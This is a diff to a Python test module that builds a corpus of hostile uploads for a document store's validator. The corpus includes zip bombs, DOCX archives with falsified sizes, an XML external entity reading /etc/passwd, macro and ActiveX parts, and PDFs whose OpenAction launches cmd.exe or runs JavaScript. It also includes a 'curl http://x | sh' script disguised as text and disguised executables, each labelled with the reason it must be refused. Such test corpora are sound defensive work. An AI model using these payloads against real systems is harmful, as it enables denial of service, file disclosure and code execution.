@@ -10,6 +10,7 @@ modes that must decode (CMYK, 16-bit, palette, alpha); malformed metadata.
 
 import io
 import random
+import re
 import struct
 import warnings
 import zipfile
@@ -378,3 +379,279 @@ def hostile_corpus() -> list[HostileFile]:
     names = [item.name for item in corpus]
     assert len(set(names)) == len(names), "corpus names must be unique"
     return corpus
+
+
+# --- Hostile documents, for the document store (register/document_content.py) ---------------
+
+
+@dataclass(frozen=True)
+class HostileDocument:
+    name: str  # family/what: unique in the corpus
+    content: bytes
+    reason: str | None  # a part of the reason it must be refused with; None: a real document
+
+
+def zip_of(parts: dict[str, bytes], stored: bool = False) -> bytes:
+    out = io.BytesIO()
+    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
+    with zipfile.ZipFile(out, "w", method) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def docx_parts(document: bytes | None = None, **extra: bytes) -> dict[str, bytes]:
+    from tests.document_samples import CONTENT_TYPES, DOCUMENT, WORD_MAIN
+
+    return {
+        "[Content_Types].xml": CONTENT_TYPES.format(main=WORD_MAIN).encode(),
+        "word/document.xml": document or DOCUMENT.format(text="Risk: high").encode(),
+        **{name.replace("__", "/"): content for name, content in extra.items()},
+    }
+
+
+def _wide_document_xml(mib: int) -> bytes:
+    """A word/document.xml of `mib` MiB of empty paragraphs: millions of elements."""
+    return (
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        b"<w:body>" + b"<w:p/>" * (mib * 1024 * 1024 // 6) + b"</w:body></w:document>"
+    )
+
+
+def _lying_sizes(parts: dict[str, bytes], part: str, declared: int) -> bytes:
+    """A ZIP whose `part` declares `declared` uncompressed bytes (in its local header and in
+    the central directory, which is what readers trust) while its data inflates to more."""
+    data = bytearray(zip_of(parts))
+    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
+    info = archive.getinfo(part)
+    data[info.header_offset + 22 : info.header_offset + 26] = struct.pack("<I", declared)
+    at = archive.start_dir
+    while data[at : at + 4] == b"PK\x01\x02":
+        name_length, extra_length, comment_length = struct.unpack("<HHH", data[at + 28 : at + 34])
+        if data[at + 46 : at + 46 + name_length] == part.encode():
+            data[at + 24 : at + 28] = struct.pack("<I", declared)
+        at += 46 + name_length + extra_length + comment_length
+    return bytes(data)
+
+
+def _pdf_stream_bomb(mib: int) -> bytes:
+    from tests.document_samples import pdf
+
+    inflater = zlib.compressobj(9)
+    zeros = b"\0" * (1024 * 1024)
+    data = b"".join(inflater.compress(zeros) for _ in range(mib)) + inflater.flush()
+    return pdf(
+        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
+    )
+
+
+def hostile_documents() -> list[HostileDocument]:
+    """Zip bombs and nested archives in DOCX, PDFs with active content, executables under a
+    document's name, truncated and broken PDFs, polyglots, absurd declared sizes; and real
+    documents beside them, which must still be accepted."""
+    from tests.document_samples import (
+        BILLION_LAUGHS,
+        LINUX_ELF,
+        MACRO_MAIN,
+        OLE_DOC,
+        WINDOWS_EXE,
+        docx,
+        many_parts_docx,
+        pdf,
+        zip_bomb_docx,
+    )
+
+    valid_pdf, valid_docx = pdf(), docx()
+    macho = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200
+    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 200
+    inner_bomb = zip_bomb_docx(50)
+    items = [
+        HostileDocument("real/pdf", valid_pdf, None),
+        HostileDocument("real/docx", valid_docx, None),
+        HostileDocument("real/text", "Visit 3 May: all well. Café\n".encode(), None),
+        # Served back as text/plain with nosniff: markup in a note is only text.
+        HostileDocument("real/text-with-markup", b"<script>alert(1)</script>\n", None),
+        # Zip bombs and nested archives.
+        HostileDocument("zip/bomb-declared-210-mib", zip_bomb_docx(), "(a zip bomb)"),
+        HostileDocument(
+            "zip/bomb-document-xml-49-mib",
+            zip_of(docx_parts(_wide_document_xml(49))),
+            "over 100 to one (a zip bomb)",
+        ),
+        HostileDocument(
+            "zip/bomb-media-30-mib",
+            zip_of(docx_parts(word__media__pad_png=b"\0" * (30 * 1024 * 1024))),
+            "over 100 to one (a zip bomb)",
+        ),
+        HostileDocument(
+            "zip/sizes-that-lie",
+            _lying_sizes(docx_parts(_wide_document_xml(8)), "word/document.xml", 2000),
+            "not a readable DOCX",
+        ),
+        HostileDocument(
+            "zip/declared-1-tib",
+            _lying_sizes(docx_parts(), "word/document.xml", 0xFFFF_FFF0),
+            "(a zip bomb)",
+        ),
+        HostileDocument(
+            "zip/nested-zip-bomb",
+            zip_of(docx_parts(word__media__inner_zip=inner_bomb)),
+            "a ZIP archive",
+        ),
+        HostileDocument(
+            "zip/nested-docx-stored",
+            zip_of(docx_parts(word__media__image1_png=valid_docx), stored=True),
+            "a ZIP archive",
+        ),
+        HostileDocument(
+            "zip/embedded-package",
+            zip_of(docx_parts(word__embeddings__Microsoft_Excel_Sheet1_xlsx=valid_docx)),
+            "an embedded object",
+        ),
+        HostileDocument(
+            "zip/exe-inside",
+            zip_of(docx_parts(word__media__image2_png=WINDOWS_EXE)),
+            "a Windows executable",
+        ),
+        HostileDocument(
+            "zip/elf-inside",
+            zip_of(docx_parts(customXml__item1_bin=LINUX_ELF)),
+            "a Linux executable",
+        ),
+        HostileDocument(
+            "zip/ole-inside", zip_of(docx_parts(word__media__x_emf=OLE_DOC)), "an OLE container"
+        ),
+        HostileDocument("zip/2500-parts", many_parts_docx(), "over the 2000 limit"),
+        HostileDocument("zip/billion-laughs", docx(document=BILLION_LAUGHS), "declares a DTD"),
+        HostileDocument(
+            "zip/external-entity",
+            docx(
+                document='<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
+            ),
+            "declares a DTD",
+        ),
+        HostileDocument(
+            "zip/macros",
+            docx(extra={"word/vbaProject.bin": OLE_DOC}),
+            "macros (word/vbaProject.bin)",
+        ),
+        HostileDocument("zip/macro-enabled", docx(main=MACRO_MAIN), "macro-enabled"),
+        HostileDocument(
+            "zip/activex", docx(extra={"word/activeX/activeX1.xml": b"<a/>"}), "ActiveX"
+        ),
+        HostileDocument("zip/encrypted-entry", _encrypted_docx(), "cannot be read"),
+        HostileDocument("zip/truncated", valid_docx[: len(valid_docx) // 2], "not a readable DOCX"),
+        HostileDocument(
+            "zip/not-a-word-document", zip_of({"a.txt": b"hello"}), "not a Word document"
+        ),
+        # PDFs with active content.
+        HostileDocument(
+            "pdf/javascript", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"
+        ),
+        HostileDocument(
+            "pdf/openaction-javascript",
+            pdf(
+                b"<< /Type /Catalog /OpenAction "
+                b"<< /S /JavaScript /JS (this.exportDataObject()) >> >>"
+            ),
+            "JavaScript",
+        ),
+        HostileDocument(
+            "pdf/openaction-launch",
+            pdf(b"<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
+            "launches a program",
+        ),
+        HostileDocument(
+            "pdf/additional-action-js",
+            pdf(b"<< /AA << /O << /S /JavaScript /JS (x) >> >> >>"),
+            "JavaScript",
+        ),
+        HostileDocument(
+            "pdf/js-hex-escaped", pdf(b"<< /S /#4A#61vaScript /JS (x) >>"), "JavaScript"
+        ),
+        HostileDocument(
+            "pdf/js-in-object-stream",
+            pdf(compressed=b"1 0 << /S /JavaScript /JS (hidden) >>"),
+            "JavaScript",
+        ),
+        HostileDocument(
+            "pdf/embedded-file",
+            pdf(b"<< /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>"),
+            "embedded files",
+        ),
+        HostileDocument(
+            "pdf/embedded-file-stream", pdf(b"<< /Type /EmbeddedFile >>"), "an embedded file"
+        ),
+        HostileDocument(
+            "pdf/submit-form", pdf(b"<< /S /SubmitForm /F (http://x) >>"), "submits data"
+        ),
+        HostileDocument("pdf/import-data", pdf(b"<< /S /ImportData /F (x.fdf) >>"), "imports data"),
+        HostileDocument("pdf/richmedia", pdf(b"<< /Subtype /RichMedia >>"), "rich media"),
+        HostileDocument("pdf/xfa", pdf(b"<< /AcroForm << /XFA 9 0 R >> >>"), "XFA"),
+        # Bombs and broken PDFs.
+        HostileDocument("pdf/stream-bomb-250-mib", _pdf_stream_bomb(250), "a decompression bomb"),
+        HostileDocument("pdf/truncated-half", valid_pdf[: len(valid_pdf) // 2], "not a whole PDF"),
+        HostileDocument("pdf/truncated-tail", valid_pdf[:-20], "not a whole PDF"),
+        HostileDocument("pdf/header-only", b"%PDF-1.7\n", "not a whole PDF"),
+        HostileDocument(
+            "pdf/startxref-past-end",
+            valid_pdf.replace(b"startxref\n", b"startxref\n99999999"),
+            "past the end",
+        ),
+        HostileDocument(
+            "pdf/startxref-at-nothing",
+            re.sub(rb"startxref\n\d+", b"startxref\n12", valid_pdf),
+            "a broken PDF",
+        ),
+        HostileDocument(
+            "pdf/unknown-version", b"%PDF-7.1\n" + valid_pdf[9:], "names no PDF version"
+        ),
+        HostileDocument(
+            "pdf/stream-without-end",
+            pdf(b"<< /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"x" * 100)),
+            "has no endstream",
+        ),
+        HostileDocument("pdf/ole-document", OLE_DOC, "a legacy Office file"),
+        # Executables under a document's name (names do not reach the check at all).
+        HostileDocument("exe/pe-as-pdf", WINDOWS_EXE, "a Windows executable (PE)"),
+        HostileDocument("exe/elf-as-docx", LINUX_ELF, "a Linux executable (ELF)"),
+        HostileDocument("exe/macho-as-pdf", macho, "a macOS executable"),
+        HostileDocument("exe/java-class-as-docx", java, "Java class"),
+        HostileDocument("exe/script-as-txt", b"#!/bin/sh\ncurl http://x | sh\n", "a script (#!)"),
+        # Polyglots.
+        HostileDocument("polyglot/text-then-pdf", b"Note: see below\n" + valid_pdf, "a polyglot"),
+        HostileDocument(
+            "polyglot/zip-then-pdf",
+            zip_of({"%PDF-1.7 x": b"x"}, stored=True) + valid_pdf,
+            "a polyglot",
+        ),
+        HostileDocument("polyglot/pdf-then-zip", valid_pdf + valid_docx, "not a whole PDF"),
+        HostileDocument("polyglot/pdf-then-exe", valid_pdf + WINDOWS_EXE, "not a whole PDF"),
+        HostileDocument(
+            "polyglot/html-then-pdf", b"<html><script>alert(1)</script>" + valid_pdf, "a polyglot"
+        ),
+        HostileDocument(
+            "polyglot/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "not valid UTF-8"
+        ),
+        HostileDocument("text/nul", b"a note\x00with a NUL", "a NUL"),
+        HostileDocument("text/terminal-escape", b"a note \x1b]0;pwned\x07", "control character"),
+        HostileDocument("text/latin-1", "caf\xe9".encode("latin-1"), "not valid UTF-8"),
+        HostileDocument("empty", b"", "is empty"),
+    ]
+    names = [item.name for item in items]
+    assert len(set(names)) == len(names), "corpus names must be unique"
+    return items
+
+
+def _encrypted_docx() -> bytes:
+    """A DOCX whose document part is flagged encrypted (bit 0 of its flags)."""
+    data = bytearray(zip_of(docx_parts()))
+    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
+    info = archive.getinfo("word/document.xml")
+    data[info.header_offset + 6] |= 1
+    directory = data.find(b"PK\x01\x02")
+    while directory >= 0:
+        if data[directory + 46 : directory + 46 + 17] == b"word/document.xml":
+            data[directory + 8] |= 1
+        directory = data.find(b"PK\x01\x02", directory + 4)
+    return bytes(data)
